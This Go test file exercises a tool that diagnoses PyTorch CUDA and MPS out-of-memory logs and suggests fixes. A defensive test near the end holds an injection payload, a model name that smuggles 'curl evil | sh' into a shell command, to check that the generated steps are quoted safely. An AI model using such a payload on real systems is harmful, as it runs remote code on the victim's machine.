package rules_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/oomdoc/oomdoc/diagnose"
	"github.com/oomdoc/oomdoc/parsers/fact"
	"github.com/oomdoc/oomdoc/rules/fix"
	"github.com/oomdoc/oomdoc/rules/ledger"
)

const (
	recentHint = " If reserved but unallocated memory is large try setting PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True to avoid fragmentation.  See documentation for Memory Management"
	// full: this process alone, 40 MiB of slack, 1.4 GiB missing.
	full = "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 1.50 GiB. GPU 1 has a total capacity of 23.64 GiB of which 100.00 MiB is free. Including non-PyTorch memory, this process has 23.54 GiB memory in use. Of the allocated memory 23.00 GiB is allocated by PyTorch, and 40.00 MiB is reserved by PyTorch but unallocated." + recentHint
	// shared: process 4242 has the other half.
	shared = "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 1.50 GiB. GPU 0 has a total capacity of 23.64 GiB of which 100.00 MiB is free. Process 4242 has 12.00 GiB memory in use. Including non-PyTorch memory, this process has 11.54 GiB memory in use. Of the allocated memory 11.00 GiB is allocated by PyTorch, and 40.00 MiB is reserved by PyTorch but unallocated." + recentHint
	// container: process 70123 is this one under its number on the host.
	container = "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 1.50 GiB. GPU 0 has a total capacity of 23.64 GiB of which 100.00 MiB is free. Process 70123 has 23.54 GiB memory in use. Of the allocated memory 23.00 GiB is allocated by PyTorch, and 40.00 MiB is reserved by PyTorch but unallocated." + recentHint
	// fragments: 5 GiB of slack against 1.5.
	fragments = "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 1.50 GiB. GPU 0 has a total capacity of 23.64 GiB of which 100.00 MiB is free. Including non-PyTorch memory, this process has 23.54 GiB memory in use. Of the allocated memory 18.00 GiB is allocated by PyTorch, and 5.00 GiB is reserved by PyTorch but unallocated." + recentHint
	mac       = "RuntimeError: MPS backend out of memory (MPS allocated: 17.10 GB, other allocations: 800.00 MB, max allowed: 18.13 GB). Tried to allocate 512.00 MB on private pool. Use PYTORCH_MPS_HIGH_WATERMARK_RATIO=0.0 to disable upper limit for memory allocations (may cause system failure)."
)

func only(t *testing.T, log string) diagnose.Incident {
	t.Helper()
	r := diagnose.Bytes([]byte(log))
	require.Len(t, r.Incidents, 1)
	return r.Incidents[0]
}

func TestUseless(t *testing.T) {
	for _, test := range []struct{ name, log, fix, why string }{
		{"slack is small", full, "expandable_segments", "40 MiB"},
		{"nobody else", full, "kill_stale_process", "Nothing else"},
		{"listed process is this one", container, "kill_stale_process", "Process 70123"},
		{"somebody else", shared, "kill_stale_process", ""},
		{"slack is large", fragments, "expandable_segments", ""},
		{"set already", "export PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True\n" + fragments, "expandable_segments", "set already (line 1)"},
		{"only recommended", "You may try PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True\n" + fragments, "expandable_segments", ""},
		{"Windows", "  File \"C:\\Users\\me\\train.py\", line 3, in <module>\n" + fragments, "expandable_segments", "Windows"},
		{"before 2.1", "CUDA out of memory. Tried to allocate 1.50 GiB (GPU 0; 23.64 GiB total capacity; 16.00 GiB already allocated; 100.00 MiB free; 21.00 GiB reserved in total by PyTorch) If reserved memory is >> allocated memory try setting max_split_size_mb to avoid fragmentation.", "expandable_segments", "2.1"},
		{"larger than the card", "CUDA out of memory. Tried to allocate 90.00 GiB (GPU 0; 23.64 GiB total capacity; 16.00 GiB already allocated; 7.00 GiB free; 16.10 GiB reserved in total by PyTorch)", "expandable_segments", "if the GPU were empty"},
		{"limit of this process", "CUDA out of memory. Tried to allocate 1.50 GiB. GPU 0 has a total capacity of 23.64 GiB of which 10.00 GiB is free. 11.82 GiB allowed; Of the allocated memory 11.00 GiB is allocated by PyTorch, and 40.00 MiB is reserved by PyTorch but unallocated.", "kill_stale_process", "11.82 GiB"},
		{"Mac, limit above memory", mac, "raise_watermark", "16 GB"},
		{"Mac, own temporaries", mac, "kill_stale_process", "own temporaries"},
		{"host memory", "RuntimeError: [enforce fail at alloc_cpu.cpp:114] err == 0. DefaultCPUAllocator: can't allocate memory: you tried to allocate 4194304000 bytes. Error code 12 (Cannot allocate memory)", "expandable_segments", "System memory (RAM) ran out"},
	} {
		t.Run(test.name, func(t *testing.T) {
			got := ""
			for _, u := range only(t, test.log).WontHelp {
				if u.ID == test.fix {
					got = u.Why
				}
			}
			if test.why == "" {
				assert.Empty(t, got)
				return
			}
			assert.Contains(t, got, test.why)
		})
	}
}

// steps are those of a fix for a log, whatever its rank.
func steps(t *testing.T, log, fix string) string {
	t.Helper()
	for _, f := range only(t, log).Fixes {
		if f.ID == fix {
			var texts []string
			for _, s := range f.Steps {
				texts = append(texts, s.Text)
			}
			return strings.Join(texts, "\n")
		}
	}
	require.Fail(t, "no such advice", fix)
	return ""
}

func TestStepsUseTheCase(t *testing.T) {
	for _, test := range []struct{ name, log, fix, want string }{
		{"pid of the message", shared, "kill_stale_process", "ps -o pid,user,etime,cmd -p 4242 "},
		{"the other card", shared, "select_gpu", "CUDA_VISIBLE_DEVICES=1"},
		{"variable of 2.2", fragments, "expandable_segments", "export PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True"},
		{"variable of 2.9", strings.ReplaceAll(fragments, "PYTORCH_CUDA_ALLOC_CONF", "PYTORCH_ALLOC_CONF"), "expandable_segments", "export PYTORCH_ALLOC_CONF=expandable_segments:True"},
		{"version 2.9 without a hint", "torch==2.9.1+cu128\n" + strings.TrimSuffix(fragments, recentHint), "expandable_segments", "export PYTORCH_ALLOC_CONF=expandable_segments:True"},
		{"variable of ROCm", strings.NewReplacer("CUDA out", "HIP out", "PYTORCH_CUDA", "PYTORCH_HIP").Replace(fragments), "max_split_size", "export PYTORCH_HIP_ALLOC_CONF=max_split_size_mb:128"},
		{"Windows", "  File \"C:\\Users\\me\\train.py\", line 3, in <module>\n" + fragments, "max_split_size", "set PYTORCH_CUDA_ALLOC_CONF=max_split_size_mb:128"},
	} {
		t.Run(test.name, func(t *testing.T) {
			assert.Contains(t, steps(t, test.log, test.fix), test.want)
		})
	}
}

func TestEffects(t *testing.T) {
	effect := func(log, fix string) *diagnose.Effect {
		for _, f := range only(t, log).Fixes {
			if f.ID == fix {
				return f.Effect
			}
		}
		return nil
	}
	kill := effect(shared, "kill_stale_process")
	require.NotNil(t, kill)
	assert.True(t, kill.Fits)
	assert.Equal(t, int64(1.5*(1<<30)), kill.NeedBytes)
	assert.InDelta(t, 12.1*(1<<30), kill.HaveBytes, 1<<26)

	grow := effect(fragments, "expandable_segments")
	require.NotNil(t, grow)
	assert.True(t, grow.Fits)
	assert.Equal(t, int64(5<<30+100<<20), grow.HaveBytes)
}

// TestLowerQuantIsPlanned: the model's name and the card give the file.
func TestLowerQuantIsPlanned(t *testing.T) {
	log := "vocab ok, loading meta-llama/Meta-Llama-3-8B-Instruct\n  File \"load.py\", line 3, in <module>\n    model = AutoModelForCausalLM.from_pretrained(\"meta-llama/Meta-Llama-3-8B-Instruct\").cuda()\n" +
		"torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 112.00 MiB. GPU 0 has a total capacity of 7.62 GiB of which 40.00 MiB is free. Including non-PyTorch memory, this process has 7.58 GiB memory in use. Of the allocated memory 7.40 GiB is allocated by PyTorch, and 1.00 MiB is reserved by PyTorch but unallocated." + recentHint
	for _, f := range only(t, log).Fixes {
		if f.ID != "use_lower_quant" {
			continue
		}
		require.NotNil(t, f.Effect)
		assert.True(t, f.Effect.Fits)
		assert.Equal(t, "estimate", f.Effect.Basis)
		assert.Contains(t, f.Steps[0].Text, "Meta-Llama-3-8B-Instruct in `Q")
		return
	}
	assert.Fail(t, "no advice to quantise")
}

// TestHostileNames: what a log says never becomes a command of its own.
func TestHostileNames(t *testing.T) {
	c := &ledger.Case{Facts: &fact.Facts{}, Model: ledger.NewModel("x'; curl evil | sh #\n\x1b[2J", 1)}
	for id, f := range fix.Fixes() {
		for _, s := range f.Steps(c) {
			assert.NotContains(t, s.Text, "\x1b", id)
			if s.Kind == "shell" {
				assert.NotContains(t, strings.ReplaceAll(s.Text, `'x'\''; curl evil | sh #[2J'`, "MODEL"), "curl", id)
			}
		}
	}
}
